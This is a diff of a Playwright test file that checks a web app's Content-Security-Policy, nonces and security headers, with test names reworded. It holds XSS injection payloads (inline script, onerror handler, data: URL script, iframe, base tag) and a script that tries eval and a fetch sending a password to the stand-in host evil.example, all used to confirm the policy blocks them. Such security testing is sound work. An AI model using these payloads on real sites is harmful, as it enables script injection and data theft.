@@ -18,38 +18,34 @@ const answers: readonly (readonly [
   init?: RequestInit,
 ])[] = [
   ["the home page", "/", 200],
-  [
-    "a page asked for by a program",
-    "/",
-    200,
-    { headers: { accept: "*/*", "user-agent": "Googlebot" } },
-  ],
-  ["the beginning of a page", "/login", 200, { method: "HEAD" }],
-  ["a page that is sent whole", "/login", 200, { headers: { cookie: "__Host-noscript=1" } }],
+  ["a page for a crawler", "/", 200, { headers: { accept: "*/*", "user-agent": "Googlebot" } }],
+  ["the head of a page", "/login", 200, { method: "HEAD" }],
+  ["a whole page", "/login", 200, { headers: { cookie: "__Host-noscript=1" } }],
   ["a soft navigation", "/login?_rsc", 200, { headers: { rsc: "1" } }],
-  ["a redirect by the guard", "/account", 307],
-  ["a page that does not exist", "/nowhere", 404],
-  ["a page that does not exist and looks like a file", "/nowhere.html", 404],
-  ["an address that nothing can be made of", "/%", 404],
-  ["a method that pages do not know", "/login", 405, { method: "PUT" }],
+  ["a redirect of the guard", "/account", 307],
+  ["an unknown page", "/nowhere", 404],
+  ["an unknown page with a file ending", "/nowhere.html", 404],
+  ["a malformed path", "/%", 404],
+  ["a method that pages do not support", "/login", 405, { method: "PUT" }],
   [
-    "an action that does not exist",
+    "an unknown action",
     "/login",
     400,
     { method: "POST", headers: { "next-action": "40abc", "content-type": "text/plain" } },
   ],
   ["a handler", "/api/session", 200],
-  ["a handler that refuses", "/api/login", 400, { method: "POST", body: "not JSON" }],
-  ["a handler asked in the wrong way", "/api/session", 405, { method: "PUT" }],
-  ["a handler that does not exist", "/api/nowhere", 404],
+  ["a handler that refuses the body", "/api/login", 400, { method: "POST", body: "not JSON" }],
+  ["a handler with the wrong method", "/api/session", 405, { method: "PUT" }],
+  ["an unknown handler", "/api/nowhere", 404],
   ["a picture", "/icon.svg", 200],
-  ["a picture that does not exist", "/nowhere.png", 404],
-  ["the stylesheet for browsers without JavaScript", "/assets/noscript.css", 200],
-  ["a script that does not exist", "/_next/static/nowhere.js", 404],
+  ["an unknown picture", "/nowhere.png", 404],
+  ["a stylesheet", "/assets/noscript.css", 200],
+  ["the stylesheet for browsers without JavaScript", "/api/noscript", 200],
+  ["an unknown script", "/_next/static/nowhere.js", 404],
 ];
 
 for (const [what, path, status, init] of answers) {
-  test(`${what} tells the browser what it may do with it`, async ({ server }) => {
+  test(`${what} is sent with the security headers`, async ({ server }) => {
     const response = await send(server, path, init);
     expect(response.status).toBe(status);
     const directives = policyOf(response).split("; ");
@@ -57,7 +53,7 @@ for (const [what, path, status, init] of answers) {
       expect(directives).toContain(`${directive} 'none'`);
     }
     expect(directives).toContain("form-action 'self'");
-    // A second policy would come after a comma, and only what both allow is allowed.
+    // A comma would separate a second policy, and browsers enforce the intersection.
     expect(policyOf(response)).not.toMatch(/,|unsafe|\*|https?:|undefined/);
     expect(response.headers.get("strict-transport-security")).toBe(
       "max-age=63072000; includeSubDomains",
@@ -68,9 +64,9 @@ for (const [what, path, status, init] of answers) {
   });
 }
 
-/** The scripts of a page that its own policy lets nobody run: neither a file of ours, nor with the nonce, nor known. */
-function unknownScripts(html: string, policy: string): string[] {
-  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "there is none";
+/** The scripts of a page that its policy refuses: no file of this site, no nonce and no known hash. */
+function refusedScripts(html: string, policy: string): string[] {
+  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1] ?? "no nonce";
   const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
   expect(scripts.length).toBeGreaterThan(5);
   return scripts
@@ -82,7 +78,7 @@ function unknownScripts(html: string, policy: string): string[] {
     .map(([script]) => script);
 }
 
-test("every script of every page is known to the page's policy, streamed in or whole", async ({
+test("the policy of every page allows every script of it, streamed or whole", async ({
   server,
 }) => {
   const member = {
@@ -92,14 +88,12 @@ test("every script of every page is known to the page's policy, streamed in or w
   for (const path of [...openPages, ...membersPages, "/nowhere"]) {
     for (const headers of [{}, whole, member]) {
       const response = await fetch(new URL(path, server.origin), { headers });
-      expect(unknownScripts(await response.text(), policyOf(response)), path).toEqual([]);
+      expect(refusedScripts(await response.text(), policyOf(response)), path).toEqual([]);
     }
   }
 });
 
-test("a page still begins with a shell that was made for everybody, before there was this visitor's nonce", async ({
-  server,
-}) => {
+test("a page begins with its static shell, which has no nonce", async ({ server }) => {
   for (const path of openPages) {
     const response = await send(server, path);
     const text = await response.text();
@@ -109,7 +103,9 @@ test("a page still begins with a shell that was made for everybody, before there
   }
 });
 
-test("a nonce is 128 bits, never the same, and never chosen by who asks", async ({ server }) => {
+test("a nonce has 128 bits, is used once and cannot be chosen by the client", async ({
+  server,
+}) => {
   const chosen = "script-src 'nonce-chosen'";
   const nonces = new Set<string>();
   for (let times = 0; times < 20; times++) {
@@ -124,9 +120,7 @@ test("a nonce is 128 bits, never the same, and never chosen by who asks", async 
   expect(nonces.size).toBe(20);
 });
 
-test("a guest's way through the site is free of complaints, and every page comes alive", async ({
-  page,
-}) => {
+test("a guest visits every page without a violation and every page hydrates", async ({ page }) => {
   const complaints = await complaintsOf(page);
   for (const path of [...openPages, "/login?next=%2Faccount", "/nowhere", "/nowhere.html"]) {
     await openAlive(page, path);
@@ -135,7 +129,7 @@ test("a guest's way through the site is free of complaints, and every page comes
   await page.getByRole("link", { name: "Home page" }).click();
   await page.getByRole("link", { name: "Sign up" }).click();
   await page.getByRole("button", { name: "Sign up" }).click();
-  await expect(page.getByText("Tell us what to call you.")).toBeVisible();
+  await expect(page.getByText("Enter your name.")).toBeVisible();
   await page.goBack();
   await page.reload();
   await page.goForward();
@@ -143,7 +137,7 @@ test("a guest's way through the site is free of complaints, and every page comes
   expect(complaints).toEqual([]);
 });
 
-test("a member's is, too", async ({ page, loggedInAs }) => {
+test("a signed-in user visits every page without a violation", async ({ page, loggedInAs }) => {
   const { name } = await loggedInAs("Fay");
   const complaints = await complaintsOf(page);
   for (const path of [...openPages, ...membersPages]) await openAlive(page, path);
@@ -160,21 +154,19 @@ test("a member's is, too", async ({ page, loggedInAs }) => {
 test.describe("without JavaScript", () => {
   test.use({ javaScriptEnabled: false });
 
-  test("pages are as they should be, styled and with their forms, at the first visit and after", async ({
-    page,
-  }) => {
+  test("pages and forms work without a violation", async ({ page }) => {
     const complaints: string[] = [];
     page.on("console", (message) => {
       if (isComplaint(message)) complaints.push(message.text());
     });
     for (const path of [...openPages, "/signup"]) await page.goto(path);
     await page.getByRole("button", { name: "Sign up" }).click();
-    await expect(page.getByText("Tell us what to call you.")).toBeVisible();
+    await expect(page.getByText("Enter your name.")).toBeVisible();
     expect(complaints).toEqual([]);
   });
 });
 
-/** What somebody might get into a page by an error of ours. Each would set a `title` of its own, if it ran. */
+/** Markup that an injection could add to a page. Each script would change the title. */
 const injections: readonly (readonly [what: string, html: string, refusedBy: string])[] = [
   ["an inline script", `<script>document.title="pwned"</script>`, "script-src-elem"],
   [
@@ -188,29 +180,25 @@ const injections: readonly (readonly [what: string, html: string, refusedBy: str
     "script-src-elem",
   ],
   [
-    "a script in its own address",
+    "a script in a data: URL",
     `<script src="data:text/javascript,document.title='pwned'"></script>`,
     "script-src-elem",
   ],
   [
-    "a handler in an attribute",
+    "an event handler attribute",
     `<img src="/nowhere.svg" onerror="document.title='pwned'">`,
     "script-src-attr",
   ],
-  [
-    "a style in an attribute",
-    `<p style="position:fixed;inset:0">Log in here</p>`,
-    "style-src-attr",
-  ],
+  ["a style attribute", `<p style="position:fixed;inset:0">Log in here</p>`, "style-src-attr"],
   [
     "a stylesheet from elsewhere",
     `<link rel="stylesheet" href="https://evil.example/pwn.css">`,
     "style-src-elem",
   ],
-  ["a picture that reports who looks", `<img src="https://evil.example/seen.gif">`, "img-src"],
-  ["another base for our addresses", `<base href="https://evil.example/">`, "base-uri"],
-  ["a page in the page", `<iframe src="https://evil.example/"></iframe>`, "frame-src"],
-  ["a plug-in", `<object data="https://evil.example/pwn"></object>`, "object-src"],
+  ["a tracking picture", `<img src="https://evil.example/seen.gif">`, "img-src"],
+  ["another base URL", `<base href="https://evil.example/">`, "base-uri"],
+  ["an iframe", `<iframe src="https://evil.example/"></iframe>`, "frame-src"],
+  ["a plug-in object", `<object data="https://evil.example/pwn"></object>`, "object-src"],
 ];
 
 async function openWith(page: Page, server: Server, html: string): Promise<void> {
@@ -225,33 +213,35 @@ async function openWith(page: Page, server: Server, html: string): Promise<void>
 }
 
 for (const [what, html, refusedBy] of injections) {
-  test(`${what} that got into a page is refused`, async ({ page, server }) => {
+  test(`the policy refuses ${what}`, async ({ page, server }) => {
     const complaints = await complaintsOf(page);
-    await page.route("https://evil.example/**", () => complaints.push("it was asked for"));
+    await page.route("https://evil.example/**", () =>
+      complaints.push("evil.example was requested"),
+    );
     await openWith(page, server, html);
     await expect.poll(() => complaints.join()).toContain(refusedBy);
-    expect(complaints).not.toContain("it was asked for");
+    expect(complaints).not.toContain("evil.example was requested");
     await expect(page).toHaveTitle("Log in · Signet");
   });
 }
 
-/** What a script of ours might be talked into. It runs as a file of this site does. */
+/** What an attacker could make one of this site's scripts do. It runs as a file of this site. */
 const gadget = `
-  const attempt = (name, work) => work().then(() => complain(name + " worked"), () => complain(name + " was refused"));
+  const attempt = (name, work) => work().then(() => reportViolation(name + " worked"), () => reportViolation(name + " was refused"));
   attempt("eval", async () => eval("1"));
   attempt("Function", async () => new Function("return 1")());
   attempt("fetch", () => fetch("https://evil.example/?password"));
-  Object.assign(document.createElement("a"), { href: "javascript:complain('javascript: worked')" }).click();
+  Object.assign(document.createElement("a"), { href: "javascript:reportViolation('javascript: worked')" }).click();
   const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
   document.body.append(form);
   form.submit();
 `;
 
-test("text is never run and a password never sent elsewhere, whatever a script of ours is talked into", async ({
+test("a script of this site can neither run text nor send data to another site", async ({
   page,
 }) => {
   const complaints = await complaintsOf(page);
-  await page.route("https://evil.example/**", () => complaints.push("it was asked for"));
+  await page.route("https://evil.example/**", () => complaints.push("evil.example was requested"));
   await page.route("/gadget.js", (route) =>
     route.fulfill({ contentType: "text/javascript", body: gadget }),
   );
@@ -267,10 +257,10 @@ test("text is never run and a password never sent elsewhere, whatever a script o
     "form-action",
   ];
   for (const refusal of refusals) await expect.poll(() => complaints.join("\n")).toContain(refusal);
-  expect(complaints.join("\n")).not.toMatch(/worked|it was asked for/);
+  expect(complaints.join("\n")).not.toMatch(/worked|evil.example was requested/);
 });
 
-test("no other site can put a page of ours in a frame", async ({ page, server }) => {
+test("another site cannot show a page in a frame", async ({ page, server }) => {
   const ours = `${server.origin}/login`;
   const evil = createServer((_, response) =>
     response.end(`<!doctype html><iframe src="${ours}"></iframe>`),
